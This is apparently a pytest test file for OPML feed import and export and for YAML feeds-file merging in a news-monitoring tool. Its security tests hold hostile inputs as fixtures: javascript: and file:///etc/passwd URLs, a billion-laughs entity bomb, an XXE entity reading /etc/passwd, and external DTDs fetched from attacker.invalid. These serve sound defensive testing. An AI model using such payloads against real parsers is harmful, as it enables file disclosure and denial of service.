"""OPML import and export, and merging imported feeds into the feeds file."""

from __future__ import annotations

import logging

import pytest
import yaml

from monitor.config import FeedSpec, load_feeds
from monitor.core.errors import ConfigError
from monitor.core.opml import merge_feeds_yaml, parse_opml, read_opml, render_opml

# As Feedly exports: folders one level deep, text and title both set, a feed in two folders.
FEEDLY = """<?xml version="1.0" encoding="UTF-8"?>
<opml version="1.0">
  <head>
    <title>Marie subscriptions in feedly Cloud</title>
  </head>
  <body>
    <outline text="Presse FR" title="Presse FR">
      <outline type="rss" text="Le Monde.fr - Actualités et Infos en France et dans le monde"
        title="Le Monde.fr - Actualités et Infos en France et dans le monde"
        xmlUrl="https://www.lemonde.fr/rss/une.xml" htmlUrl="https://www.lemonde.fr"/>
      <outline type="rss" text="Libération" title="Libération"
        xmlUrl="https://www.liberation.fr/arc/outboundfeeds/rss-all/?outputType=xml"
        htmlUrl="https://www.liberation.fr/"/>
    </outline>
    <outline text="Défense &amp; Sécurité" title="Défense &amp; Sécurité">
      <outline type="rss" text="Zone Militaire" title="Zone Militaire"
        xmlUrl="http://www.opex360.com/feed/" htmlUrl="http://www.opex360.com"/>
      <outline type="rss" text="Le Monde.fr - Actualités et Infos en France et dans le monde"
        title="Le Monde.fr - Actualités et Infos en France et dans le monde"
        xmlUrl="https://www.lemonde.fr/rss/une.xml" htmlUrl="https://www.lemonde.fr"/>
    </outline>
  </body>
</opml>
""".encode("utf-8")

# As Inoreader exports an account without folders: flat, text only, no type.
INOREADER_FLAT = b"""<?xml version="1.0" encoding="UTF-8"?>
<opml version="1.0">
<head><title>Subscriptions from Inoreader [https://www.inoreader.com]</title></head>
<body>
<outline text="BBC News - World" xmlUrl="https://feeds.bbci.co.uk/news/world/rss.xml"/>
<outline text="Reuters: World News" xmlUrl="https://www.reutersagency.com/feed/?best-topics=world&amp;post_type=best"/>
<outline text="https://example.org/untitled.xml" xmlUrl="https://example.org/untitled.xml"/>
</body>
</opml>
"""

# OPML 2.0 as NetNewsWire and the spec write it: type, htmlUrl, language, category, nested folders.
OPML2_NESTED = """<?xml version="1.0" encoding="ISO-8859-1"?>
<opml version="2.0">
  <head><title>Veille</title><dateCreated>Mon, 24 Jan 2022 10:00:00 GMT</dateCreated></head>
  <body>
    <outline text="Monde">
      <outline text="Europe">
        <outline text="Deutsche Welle" type="rss" version="RSS2" language="de"
          xmlUrl="https://rss.dw.com/rdf/rss-de-all" htmlUrl="https://www.dw.com/de"
          category="/Nachrichten,/Europe/Allemagne"/>
      </outline>
      <outline text="El País" type="rss" language="es"
        xmlUrl="https://feeds.elpais.com/mrss-s/pages/ep/site/elpais.com/portada"/>
    </outline>
    <outline text="Bookmarks">
      <outline text="A web page, not a feed" type="link" url="https://example.org/page.html"/>
    </outline>
    <outline text="Le Devoir" type="rss" language="unknown" xmlUrl="feed://www.ledevoir.com/rss/manchettes.xml"/>
  </body>
</opml>
""".encode("iso-8859-1")


def test_feedly_export_gives_folders_as_tags_and_merges_a_feed_listed_twice():
    feeds = parse_opml(FEEDLY, path="feedly.opml")
    assert [f.url for f in feeds] == [
        "https://www.lemonde.fr/rss/une.xml",
        "https://www.liberation.fr/arc/outboundfeeds/rss-all/?outputType=xml",
        "http://www.opex360.com/feed/",
    ]
    lemonde, libe, opex = feeds
    assert lemonde.name == "Le Monde.fr - Actualités et Infos en France et dans le monde"
    assert lemonde.tags == ("Presse FR", "Défense & Sécurité")
    assert libe.name == "Libération" and libe.tags == ("Presse FR",)
    assert opex.tags == ("Défense & Sécurité",) and opex.language is None


def test_inoreader_flat_export_has_no_tags_and_unescapes_urls():
    feeds = parse_opml(INOREADER_FLAT)
    assert [f.name for f in feeds] == ["BBC News - World", "Reuters: World News", ""]
    assert feeds[1].url == "https://www.reutersagency.com/feed/?best-topics=world&post_type=best"
    assert all(f.tags == () for f in feeds)


def test_opml2_nested_folders_categories_language_and_feed_scheme():
    feeds = parse_opml(OPML2_NESTED)
    dw, elpais, devoir = feeds
    assert dw.tags == ("Monde", "Europe", "Nachrichten", "Europe/Allemagne") and dw.language == "de"
    assert elpais.name == "El País" and elpais.tags == ("Monde",) and elpais.language == "es"
    assert devoir.url == "http://www.ledevoir.com/rss/manchettes.xml" and devoir.language is None
    assert len(feeds) == 3  # the type="link" bookmark is not a feed


def test_non_http_urls_are_skipped_and_reported(caplog):
    doc = b"""<opml version="2.0"><body>
<outline text="ok" xmlUrl="https://example.org/ok.xml"/>
<outline text="js" xmlUrl="javascript:alert(document.cookie)"/>
<outline text="local" xmlUrl="file:///etc/passwd"/>
<outline text="relative" xmlUrl="/feed.xml"/>
<outline text="ftp" xmlUrl="ftp://example.org/feed.xml"/>
<outline text="empty" xmlUrl=""/>
</body></opml>"""
    result = read_opml(doc, path="mixed.opml")
    assert [f.url for f in result.feeds] == ["https://example.org/ok.xml"]
    assert len(result.skipped) == 5
    assert result.skipped[0].startswith("mixed.opml:3: javascript: URL is not http(s)")
    assert "mixed.opml:4: file: URL" in result.skipped[1]
    assert all("\n" not in s for s in result.skipped)
    with caplog.at_level(logging.WARNING, logger="monitor"):
        assert len(parse_opml(doc)) == 1
    assert sum("skipped" in r.getMessage() for r in caplog.records) == 5


def test_render_then_parse_gives_the_same_feeds():
    feeds = [
        FeedSpec(url="https://www.lemonde.fr/rss/une.xml", name="Le Monde : À la une", language="fr",
                 tags=("Presse FR", "fr")),
        FeedSpec(url="https://example.org/a?x=1&y=<2>", name='Quotes "double" \'single\' # hash',
                 tags=("Presse FR",)),
        FeedSpec(url="https://example.org/b", name="", tags=()),
        FeedSpec(url="https://example.org/c", name="日本語のニュース", language="ja", tags=("a,b", "c/d", "/e")),
        FeedSpec(url="https://example.org/d", name="Line\nbreak and tab\t", tags=("Monde",)),
    ]
    data = render_opml(feeds, title="Mes flux & co")
    assert data.startswith(b"<?xml version='1.0' encoding='UTF-8'?>")
    assert b'<opml version="2.0">' in data and b"Mes flux &amp; co" in data
    back = parse_opml(data)
    assert [f.url for f in back] == [f.url for f in feeds]
    for got, want in zip(back, feeds):
        assert got.name == " ".join(want.name.split()) or got.name == want.name.strip()
        assert (got.language, got.tags) == (want.language, want.tags)


def test_render_drops_characters_xml_cannot_hold():
    data = render_opml([FeedSpec(url="https://example.org/x", name="bell\x07 and nul\x00")])
    assert parse_opml(data)[0].name == "bell and nul"


@pytest.mark.parametrize("doc, reason", [
    (b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<opml version="2.0"><body><outline text="&lol3;" xmlUrl="https://example.org/x"/></body></opml>""",
     "declares entity 'lol'"),
    (b"""<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<opml version="2.0"><body><outline text="&xxe;" xmlUrl="https://example.org/x"/></body></opml>""",
     "declares entity 'xxe', from file:///etc/passwd"),
    (b"""<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<opml version="2.0"><body/></opml>""",
     "declares entity 'remote'"),
    (b"""<?xml version="1.0"?>
<!DOCTYPE opml SYSTEM "http://attacker.invalid/opml.dtd">
<opml version="2.0"><body/></opml>""",
     "references an external resource (http://attacker.invalid/opml.dtd)"),
])
def test_hostile_documents_are_refused_with_a_one_line_reason(doc, reason):
    with pytest.raises(ConfigError) as err:
        parse_opml(doc, path="evil.opml")
    message = str(err.value)
    assert message.startswith("evil.opml:") and reason in message and "\n" not in message


@pytest.mark.parametrize("doc, expected", [
    (b"", "evil.opml:1:1: not well-formed OPML: no element found"),
    (b"just some text", "evil.opml:1:1: not well-formed OPML: syntax error"),
    (b'{"feeds": []}', "evil.opml:1:1: not well-formed OPML: not well-formed (invalid token)"),
    (b'<opml version="2.0">\n<body>\n<outline text="a" xmlUrl="https://e.org/x">\n</body></opml>',
     "evil.opml:4:3: not well-formed OPML: mismatched tag"),
    (b'<opml><body><outline text="Tom & Jerry" xmlUrl="https://e.org/x"/></body></opml>',
     "evil.opml:1:33: not well-formed OPML: not well-formed (invalid token)"),
    (b'<opml><body><outline text="&nbsp;" xmlUrl="https://e.org/x"/></body></opml>',
     "evil.opml:1:13: not well-formed OPML: undefined entity"),
    (b'<?xml version="1.0"?>\n<rss version="2.0"><channel/></rss>',
     "evil.opml:2:1: not OPML: the root element is <rss>, not <opml>"),
    (b"<!DOCTYPE html><html><body>Sign in</body></html>",
     "evil.opml:1:16: not OPML: the root element is <html>, not <opml>"),
])
def test_malformed_documents_raise_config_error_with_path_and_line(doc, expected):
    with pytest.raises(ConfigError) as err:
        parse_opml(doc, path="evil.opml")
    assert str(err.value).startswith(expected)


def test_attribute_names_are_read_whatever_their_case():
    doc = b'<opml><body><outline TEXT="x" xmlurl="https://e.org/x" Language="fr"/></body></opml>'
    [f] = parse_opml(doc)
    assert (f.url, f.name, f.language) == ("https://e.org/x", "x", "fr")


# --- merging into the feeds file ---------------------------------------------

EXISTING = """\
# The feeds to poll. Edit freely.
feeds:
  - url: https://www.lemonde.fr/rss/une.xml   # the front page
    name: Le Monde
    language: fr
    tags: [fr, presse]

  # - url: https://paused.example.org/rss    (paused while they fix their feed)
  - url: https://feeds.bbci.co.uk/news/world/rss.xml
    name: BBC
    interval: 600
# end of the list
"""

ODD = [
    FeedSpec(url="https://e.org/colon", name="Le Monde: International", tags=("Presse FR",)),
    FeedSpec(url="https://e.org/quotes", name='He said "hi" and \'bye\' \\ done'),
    FeedSpec(url="https://e.org/hash", name="C# weekly #42", language="en"),
    FeedSpec(url="https://e.org/accents", name="Süddeutsche Zeitung – Politik ÉÀÇ 日本", tags=("ü", "- dash")),
    FeedSpec(url="https://e.org/yaml-words", name="yes", language="no", tags=("null", "~", "true", "1.0")),
    FeedSpec(url="https://e.org/control", name="tab\there \x07bell \u2028sep \ufeffbom [a]: {b}"),
    FeedSpec(url="https://e.org/leading", name=" & *anchor !tag %pct @at `tick` |pipe >gt"),
    FeedSpec(url="https://e.org/more", interval=1200, enabled=False),
]


def _load(tmp_path, text):
    p = tmp_path / "feeds.yaml"
    p.write_text(text, encoding="utf-8")
    return load_feeds(p)


def test_merge_appends_new_feeds_and_keeps_the_text_and_comments(tmp_path):
    new = [FeedSpec(url="https://www.lemonde.fr/rss/une.xml", name="Le Monde (again)"),
           FeedSpec(url="HTTPS://Feeds.BBCI.co.uk/news/world/rss.xml", name="BBC (case)"),
           *ODD, FeedSpec(url="https://e.org/colon", name="given twice")]
    text, added = merge_feeds_yaml(EXISTING, new)
    assert added == ODD
    assert text.startswith(EXISTING.split("# end of the list")[0])
    assert text.endswith("# end of the list\n")
    assert text.count("# the front page") == 1 and "(paused while they fix their feed)" in text
    feeds = _load(tmp_path, text)
    assert feeds[:2] == _load(tmp_path, EXISTING)
    assert feeds[2:] == ODD
    # and once more: nothing left to add, the text is untouched
    again, added_again = merge_feeds_yaml(text, new)
    assert again == text and added_again == []


@pytest.mark.parametrize("existing", [
    "",
    "# nothing yet\n",
    "# no newline at the end",
    "feeds:\n",
    "feeds:",
    "feeds: ~   # none yet\n",
    "feeds: null\n",
    "feeds: []\n",
    "feeds: [{url: 'https://z.example.org/x'}, ]  # flow style\n",
    "feeds: [\n  {url: 'https://z.example.org/x'}  # one\n]\n",
    "feeds:\n- url: https://z.example.org/x\n  name: Z",
    "feeds:\n    -   url: https://z.example.org/x\n        name: |\n            Zed\n            Z\n\n# trailing\n",
    "feeds:\r\n  - url: https://z.example.org/x\r\n    name: Z\r\n",
])
def test_merge_works_on_every_shape_of_feeds_file(tmp_path, existing):
    text, added = merge_feeds_yaml(existing, ODD)
    assert added == ODD
    feeds = _load(tmp_path, text)
    assert feeds[-len(ODD):] == ODD
    before = [f for f in (yaml.safe_load(existing) or {}).get("feeds") or []]
    assert [f.url for f in feeds[:-len(ODD)]] == [f["url"] for f in before]
    if "[" not in existing:  # every line of the user's survives (a null value aside)
        for line in existing.splitlines():
            assert line.replace("~", "").replace("null", "") in text


def test_merge_refuses_a_file_it_cannot_read():
    with pytest.raises(ConfigError, match=r"^feeds\.yaml:3:1: YAML syntax error"):
        merge_feeds_yaml("feeds:\n  - url: [unclosed\n", ODD)
    with pytest.raises(ConfigError, match="feeds: must be a list"):
        merge_feeds_yaml("feeds: {url: x}\n", ODD)
    with pytest.raises(ConfigError, match="must be a mapping"):
        merge_feeds_yaml("- url: https://e.org/x\n", ODD)


def test_opml_import_end_to_end_into_the_shipped_style_file(tmp_path):
    text, added = merge_feeds_yaml(EXISTING, parse_opml(FEEDLY) + parse_opml(OPML2_NESTED))
    assert len(added) == 5  # Le Monde was there already
    feeds = _load(tmp_path, text)
    assert feeds[0].name == "Le Monde" and feeds[2].name == "Libération"
    assert render_opml(feeds) == render_opml(parse_opml(render_opml(feeds)))
